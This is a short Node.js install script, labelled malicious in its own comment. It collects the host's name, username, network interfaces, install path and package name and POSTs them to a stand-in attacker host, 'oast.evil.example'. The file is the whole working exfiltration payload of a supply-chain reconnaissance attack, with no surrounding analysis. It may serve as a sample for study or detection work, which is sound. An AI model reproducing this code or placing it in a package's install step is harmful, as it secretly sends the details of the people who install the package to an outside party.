// malicious: an install script that tells who and where
const os = require('os');
const https = require('https');
const info = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces(), d: __dirname, p: require('./package.json').name });
const r = https.request({ hostname: 'oast.evil.example', port: 443, path: '/', method: 'POST' });
r.write(info);
r.end();
